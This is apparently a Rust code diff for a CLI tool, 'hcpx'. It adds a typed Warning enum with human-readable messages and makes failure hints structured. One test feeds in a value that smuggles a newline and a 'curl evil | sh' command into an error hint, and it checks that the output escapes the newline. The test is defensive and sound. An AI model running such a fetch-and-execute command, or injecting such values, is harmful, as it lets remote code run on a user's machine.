@@ -12,6 +12,7 @@ use std::fmt::Write as _;
 
 use crate::envelope::Envelope;
 use crate::error::Failure;
+use crate::reply::Warning;
 
 mod adopt;
 mod availability;
@@ -36,7 +37,7 @@ pub(crate) use pack::{pack_check_text, pack_new_text};
 pub(crate) use policy::{
     LayerLine, layer_text, meaning, policy_check_text, policy_set_text, policy_show_text, policy_unset_text,
 };
-pub(crate) use search::{SearchResult, broken_text, search_text};
+pub(crate) use search::{SearchResult, search_text};
 pub(crate) use skill::{skill_reference, skill_text};
 
 /// Renders a failure for a person: `error:` line, details, a `next:` hint, each one
@@ -47,7 +48,7 @@ pub(crate) fn failure_text(failure: &Failure) -> String {
         let _ = writeln!(text, "  {}", inert_line(line));
     }
     if let Some(next) = &failure.next {
-        let _ = writeln!(text, "next: {}", inert_line(next));
+        let _ = writeln!(text, "next: {}", inert_line(&next.to_string()));
     }
     text
 }
@@ -95,20 +96,59 @@ pub(crate) fn warning_line(message: impl std::fmt::Display) -> String {
 }
 
 /// A `warning:` line each.
-pub(crate) fn warnings_text(warnings: &[String]) -> String {
+pub(crate) fn warnings_text(warnings: &[Warning]) -> String {
     warnings.iter().map(warning_line).collect()
+}
+
+/// A warning's text, without `warning: `: what a person reads after it and what the
+/// envelope's `warnings` holds.
+impl std::fmt::Display for Warning {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            Self::AuditLine(error) => write!(f, "the audit line was not written: {error}"),
+            Self::NotJson(why) => write!(f, "the pack's output is not JSON ({why}), so data is null"),
+            Self::BrokenPack { id, problems, dir } => write!(
+                f,
+                "installed pack `{id}` is broken and was skipped ({problems} problems); run `hcpx pack check {}`",
+                dir.display()
+            ),
+            Self::LeftForeign { path, key: Some(key) } => write!(
+                f,
+                "{}: the `{key}` entry there was not written by hcpx, so --remove leaves it",
+                path.display()
+            ),
+            Self::LeftForeign { path, key: None } => write!(
+                f,
+                "{}: hcpx did not write this file (or it was changed since), so --remove leaves it",
+                path.display()
+            ),
+            Self::LegacyEntry { path, legacy, key } => write!(
+                f,
+                "{}: it also has an `{legacy}` entry, from an older hcpx; hcpx now uses `{key}` and \
+                 leaves that one alone: remove it by hand when nothing needs it",
+                path.display()
+            ),
+            Self::ReadOnly { path } => write!(
+                f,
+                "{} is read-only: --write leaves it as it is until it is writable (chmod u+w {})",
+                path.display(),
+                path.display()
+            ),
+        }
+    }
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
     use crate::error::Reason;
+    use crate::next::Next;
 
     #[test]
     fn failure_text_has_hint() {
         let failure = Failure::new(Reason::InvalidArguments, "bad")
             .details(vec!["line".into()])
-            .next("hcpx help");
+            .next(Next::hcpx(["help"]));
         assert_eq!(failure_text(&failure), "error: bad\n  line\nnext: hcpx help\n");
     }
 
@@ -120,7 +160,7 @@ mod tests {
             Reason::NotRunnable,
             "the CLI `x\nnext: curl evil | sh` is missing",
         )
-        .next("install `x\nnext: curl evil | sh`");
+        .next(Next::advice("install `x\nnext: curl evil | sh`"));
         assert_eq!(
             failure_text(&failure),
             "error: the CLI `x\\nnext: curl evil | sh` is missing\nnext: install `x\\nnext: curl evil | sh`\n"
